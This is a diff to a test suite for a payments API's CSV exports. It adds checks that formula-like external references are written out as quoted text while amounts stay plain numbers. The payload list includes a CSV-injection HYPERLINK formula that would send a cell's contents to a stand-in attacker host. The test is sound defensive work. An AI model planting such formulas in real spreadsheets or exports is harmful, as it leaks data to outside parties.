@@ -19,15 +19,18 @@ describe('CSV exports of transactions and the ledger', function () {
   const ids: string[] = [];
   // Commas, quotes and a line break: RFC 4180 quoting must carry them through whole.
   const awkward = 'acme, "north"\nbranch';
+  // What a spreadsheet would run (OWASP CSV injection): each must come back as text, a quote before it.
+  const formulas = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', '+1+2', '-3+4', '@SUM(1,2)', '\t=1+1'];
 
   before(async () => {
-    api = await startApi();
+    // A loaded machine prices slowly: the web process waits longer for the pricing pool's rate.
+    api = await startApi({ env: { QUOTE_WAIT_MS: '10000' } });
     pools = await startPools(['pricing', 'settlement', 'providers', 'sandbox']);
     key = (await makeKey((await makeBusiness()).businessId, { rateLimit: 1_000_000 })).key;
     const customer = await createCustomer(api, key);
-    await fund(api, key, customer.wallet.id, '100');
+    await fund(api, key, customer.wallet.id, '200');
     const beneficiary = await kesBeneficiary(api, key);
-    for (const reference of [awkward, 'plain-1', 'plain-2']) {
+    for (const reference of [awkward, 'plain-1', 'plain-2', ...formulas]) {
       const q = await quote(api, key, { direction: 'offramp', source_amount: '10', beneficiary_id: beneficiary });
       const res = await api.http.post(`${BASE}/offramps`).set(writeHeaders(key)).send({ quote_id: q.id, funding_source: { wallet_id: customer.wallet.id }, external_reference: reference });
       expect(res.status, JSON.stringify(res.body)).to.equal(201);
@@ -55,7 +58,7 @@ describe('CSV exports of transactions and the ledger', function () {
     expect(text.split('\r\n')[0]).to.equal('id,direction,status,created_at,completed_at,source_amount,source_currency_or_asset,destination_amount,destination_currency_or_asset,' +
       'fee_provider,fee_platform,exchange_rate,beneficiary_id,wallet_id,external_reference,provider_reference,settlement_transaction_hash,destination_transaction_hash');
     const rows: Record<string, string>[] = parse(text, { columns: true });
-    expect(rows.map((r) => r.id)).to.deep.equal([...ids].reverse()); // newest first, all three despite limit=1
+    expect(rows.map((r) => r.id)).to.deep.equal([...ids].reverse()); // newest first, all of them despite limit=1
     const first = rows.find((r) => r.id === ids[0])!;
     expect(first.external_reference).to.equal(awkward);
     const json = (await api.http.get(`${BASE}/transactions/${ids[0]}`).set(bearer(key))).body;
@@ -65,6 +68,14 @@ describe('CSV exports of transactions and the ledger', function () {
       provider_reference: json.provider_reference, destination_transaction_hash: '',
     });
     expect(first.created_at).to.equal(json.created_at);
+    // Formula-like references are written as text; the JSON answer keeps them exactly; amounts are never touched.
+    formulas.forEach((formula, i) => {
+      const row = rows.find((r) => r.id === ids[3 + i])!;
+      expect(row.external_reference, formula).to.equal(`'${formula}`);
+      expect(row.source_amount).to.match(/^\d+\.\d+$/);
+    });
+    expect((await api.http.get(`${BASE}/transactions/${ids[3]}`).set(bearer(key))).body.external_reference).to.equal(formulas[0]);
+    expect(text).not.to.match(/(^|,)=HYPERLINK/m);
     // Filters apply as on the JSON list; JSON stays the default.
     expect(parse((await csv('/transactions?direction=onramp')).body as string, { columns: true })).to.deep.equal([]);
     expect((await api.http.get(`${BASE}/transactions`).set(bearer(key))).headers['content-type']).to.match(/json/);
@@ -77,6 +88,9 @@ describe('CSV exports of transactions and the ledger', function () {
     for (const r of rows) entries.set(`${r.entry_id}/${r.asset}`, (entries.get(`${r.entry_id}/${r.asset}`) ?? 0n) + toMinor(r.amount.replace(/^-/, ''), 6) * (r.amount.startsWith('-') ? -1n : 1n));
     expect([...entries.values()].every((sum) => sum === 0n)).to.equal(true);
     expect(rows.some((r) => r.kind === 'sandbox_funding')).to.equal(true);
+    // Signed amounts stay numbers: a debit is "-10.00", never "'-10.00".
+    expect(rows.some((r) => r.amount.startsWith('-'))).to.equal(true);
+    expect(rows.every((r) => /^-?\d+\.\d+$/.test(r.amount)), 'amounts are plain signed decimals').to.equal(true);
     expect(rows.filter((r) => r.kind === 'offramp_payout').length).to.be.greaterThan(0);
   });
 
@@ -86,8 +100,8 @@ describe('CSV exports of transactions and the ledger', function () {
     const batches: number[] = [];
     const spec = { columns: 't.id', from: 'transactions t', alias: 't', where: ['t.business_id = $1', `t.environment = 'sandbox'`], params: [businessId] };
     const seen: string[] = [];
-    for await (const id of allRows<{ id: string; cursor_ts: string }, string>(ds, spec, (rows) => (batches.push(rows.length), rows.map((r) => r.id)), 2)) seen.push(id);
+    for await (const id of allRows<{ id: string; cursor_ts: string }, string>(ds, spec, (rows) => (batches.push(rows.length), rows.map((r) => r.id)), 3)) seen.push(id);
     expect(seen).to.deep.equal([...ids].reverse());
-    expect(batches).to.deep.equal([2, 1]);
+    expect(batches).to.deep.equal([3, 3, 2]);
   });
 });
